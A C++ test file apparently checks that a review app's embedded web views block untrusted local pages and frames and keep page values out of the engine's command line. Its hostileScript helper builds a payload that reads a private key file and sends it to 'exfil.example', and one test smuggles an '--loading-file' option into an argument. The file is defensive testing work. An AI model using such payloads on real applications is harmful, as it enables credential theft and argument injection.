// The trust boundary of review windows on the real toolkit under Xvfb: a local page from outside
// the product's folders never runs in a review window, an untrusted frame inside a trusted page
// never loads, and no value a page sends reaches the engine's command line as an option. A
// trusted page keeps every part of the bridge.
#include "app/Settings.h"
#include "platform/core/Paths.h"
#include "platform/ui/fake/FakeToolkit.h"
#include "platform/pdf/testing/PdfFixtures.h"
#include "review/PageBridge.h"
#include "review/ResourceSchemes.h"
#include "review/ReviewOnScreenFixture.h"
#include "review/UrlDispatcher.h"

#include <glib.h>

namespace ikw {
namespace {

constexpr double kTimeout = 20;

std::string fileUrl(const std::string& path)
{
    gchar* uri = g_filename_to_uri(path.c_str(), nullptr, nullptr);
    std::string url = uri ? uri : "";
    g_free(uri);
    return url;
}

// What a hostile page tries: read a private file through the view and through the PDF scheme,
// then hand it to native code (a message, an action) and out (a web address for the browser).
std::string hostileScript(const std::string& secret, const std::string& name)
{
    return "<script>(async function () {\n"
           "  var stolen = [];\n"
           "  try { var r = new XMLHttpRequest(); r.open('GET', "
        + jsQuote(fileUrl(secret)) + ", false); r.send(); stolen.push(r.responseText); } catch (e) {}\n"
           "  try { var f = await fetch('vtpdf://x/?p=' + encodeURIComponent("
        + jsQuote(secret) + ")); stolen.push(await f.text()); } catch (e) {}\n"
                            "  var loot = encodeURIComponent(stolen.join('|'));\n"
                            "  try { window.webkit.messageHandlers.inkwarden.postMessage({action: 'stat', id: "
        + jsQuote(name) + ", loot: loot}); } catch (e) {}\n"
                          "  location.href = 'qeliz://setview?mode=column&from="
        + name + "&loot=' + loot;\n"
                 "  setTimeout(function () { location.href = 'https://exfil.example/?d=' + loot; }, 300);\n"
                 "})();</script>";
}

class PageTrustOnScreen : public testing::ReviewOnScreenFixture {
protected:
    PageTrustOnScreen()
    {
        review::registerResourceSchemes(*services.webContext, services.trustedRoots);
        actions.add("setview", [this](const UrlAction& action) { actionsSeen.push_back(action.url); });
        services.navigationPolicy = [this](ReviewWC& window, const ui::NavigationAction& navigation) {
            return dispatcher.decide(window, navigation);
        };
        services.scriptMessage = [this](ReviewWC&, const Json& body) { messages.push_back(body); };
        services.openOutside = [this](const std::string& path) { handedOut.push_back(path); };
        services.features.pushEditState = [this](ReviewWC& window) { shownPages.push_back(window.webView().documentUrl()); };
    }

    // Whether anything of the secret went anywhere.
    bool secretLeaked() const
    {
        for (const auto& url : workspace.openedUrls) {
            if (url.find("SECRET") != std::string::npos)
                return true;
        }
        for (const auto& url : actionsSeen) {
            if (url.find("SECRET") != std::string::npos)
                return true;
        }
        for (const auto& body : messages) {
            if (body.dump().find("SECRET") != std::string::npos)
                return true;
        }
        return false;
    }

    void settle(double seconds) { ui::gtk3::runMainLoopUntil([] { return false; }, seconds); }

    const std::string secret = testing::writeTestFile(home.file("secret/id_rsa"), "SECRET key");
    const std::string pdf = testing::writeTestFile(home.file("Matter/a.pdf"), pdf::testing::numberedPdf(1));
    UrlActions actions;
    ui::fake::FakeWorkspace workspace;
    UrlDispatcher dispatcher { actions, workspace };
    std::vector<std::string> actionsSeen;
    std::vector<Json> messages;
    std::vector<std::string> handedOut;
    std::vector<std::string> shownPages;
};

TEST_F(PageTrustOnScreen, ALocalPageFromOutsideTheFoldersNeverRunsInAReviewWindow)
{
    const auto evil = testing::writeTestFile(home.file("Downloads/evil.html"), "<title>evil</title>" + hostileScript(secret, "page"));
    const auto start = testing::writeTestFile(joinPath(globals().archive, "start.html"),
        "<title>start</title><a id=go href=\"" + fileUrl(evil) + "\">a downloaded page</a>");
    auto window = windows.open(start);
    ASSERT_TRUE(ui::gtk3::runMainLoopUntil([&] { return shownPages.size() == 1; }, kTimeout));

    // A link the user follows: the page goes to the desktop (the browser) instead.
    window->webView().evaluate("document.getElementById('go').click()");
    ASSERT_TRUE(ui::gtk3::runMainLoopUntil([&] { return !handedOut.empty() || !workspace.openedUrls.empty(); }, kTimeout));
    // The program asked to show it: the same.
    auto opened = windows.open(evil);
    ASSERT_TRUE(ui::gtk3::runMainLoopUntil([&] { return handedOut.size() == 2 || workspace.openedUrls.size() > 1; }, kTimeout));
    settle(1.5); // time for anything the page would have done

    EXPECT_EQ(handedOut, (std::vector<std::string> { evil, evil }));
    EXPECT_FALSE(secretLeaked());
    EXPECT_TRUE(workspace.openedUrls.empty());
    EXPECT_TRUE(actionsSeen.empty());
    EXPECT_TRUE(messages.empty());
    EXPECT_EQ(shownPages, std::vector<std::string> { fileUrl(start) });
    EXPECT_EQ(window->webView().documentUrl(), fileUrl(start));
    EXPECT_NE(opened->webView().documentUrl(), fileUrl(evil));
}

TEST_F(PageTrustOnScreen, AnUntrustedFrameInATrustedPageGetsNothingWhileThePageKeepsTheBridge)
{
    const auto frame = testing::writeTestFile(home.file("Downloads/frame.html"), hostileScript(secret, "frame"));
    // The trusted page asks after its frame has had every chance to act.
    const auto host = testing::writeTestFile(joinPath(globals().archive, "host.html"),
        "<title>host</title><iframe src=\"" + fileUrl(frame) + "\"></iframe><script>\n"
        "addEventListener('load', function () { setTimeout(async function () {\n"
        "  var answer = await fetch('vtpdf://x/?p=' + encodeURIComponent(" + jsQuote(pdf) + "));\n"
        "  var bytes = (await answer.arrayBuffer()).byteLength;\n"
        "  window.webkit.messageHandlers.inkwarden.postMessage({action: 'stat', id: 'host', bytes: bytes});\n"
        "  location.href = 'qeliz://setview?mode=grid&from=host';\n"
        "}, 1500); });\n"
        "</script>");
    windows.open(host);
    ASSERT_TRUE(ui::gtk3::runMainLoopUntil([&] { return !actionsSeen.empty() && actionsSeen.back().find("from=host") != std::string::npos; }, kTimeout))
        << (actionsSeen.empty() ? "no action" : actionsSeen.back());

    EXPECT_EQ(actionsSeen, std::vector<std::string> { "qeliz://setview?mode=grid&from=host" });
    ASSERT_EQ(messages.size(), 1u);
    EXPECT_EQ(messages[0].value("id", ""), "host");
    EXPECT_EQ(messages[0].value("bytes", 0), static_cast<int>(testing::readTestFile(pdf).size()));
    EXPECT_FALSE(secretLeaked());
    EXPECT_TRUE(workspace.openedUrls.empty());
    EXPECT_TRUE(handedOut.empty()); // a frame's page is refused, not handed out
}

TEST_F(PageTrustOnScreen, PageValuesNeverReachTheEngineAsOptions)
{
    EngineLauncher engine;
    int runs = 0;
    services.shellEngine = [&](std::vector<std::string> arguments) {
        ++runs;
        engine.shellEngine(std::move(arguments));
    };
    services.features.pushEditState = [this](ReviewWC& window) {
        window.webView().evaluate("(document.body.dataset.mode || '') + '|' + Array.from(document.querySelectorAll('li')).map(function(e){return e.textContent}).join('|')",
            [this](ui::ScriptResult result) {
                if (result.value && result.value->is_string())
                    shownPages.push_back(result.value->get<std::string>());
            });
    };
    const auto bridge = installPageBridge(services);
    const auto victim = testing::writeTestFile(home.file("victim.txt"), "keep me");
    const auto other = testing::writeTestFile(home.file("Matter/b.pdf"), pdf::testing::numberedPdf(2));
    const auto page = testing::writeTestFile(joinPath(globals().archive, "compare.html"),
        "<title>compare</title><script>addEventListener('load', function () {\n"
        "  location.href = 'qeliz://comparego?a=--loading-file&b=' + encodeURIComponent(" + jsQuote(victim) + ");\n"
        "  setTimeout(function () { location.href = 'qeliz://setview?mode=column'; }, 400);\n"
        "});</script>");
    auto window = windows.open(page);
    ASSERT_TRUE(ui::gtk3::runMainLoopUntil([&] { return loadConfig().value("folder_view", "") == "column"; }, kTimeout));
    EXPECT_EQ(runs, 0);

    // Two documents by their paths: the comparison runs.
    window->webView().evaluate("location.href = 'qeliz://comparego?a=' + encodeURIComponent(" + jsQuote(pdf) + ") + '&b=' + encodeURIComponent("
        + jsQuote(other) + ")");
    const auto expected = "compare|" + pdf + "|" + other + "|--choose";
    ASSERT_TRUE(ui::gtk3::runMainLoopUntil([&] { return !shownPages.empty() && shownPages.back() == expected; }, kTimeout))
        << (shownPages.empty() ? "no page" : shownPages.back());
    EXPECT_EQ(runs, 1);
    EXPECT_EQ(testing::readTestFile(victim), "keep me");
}

}
}
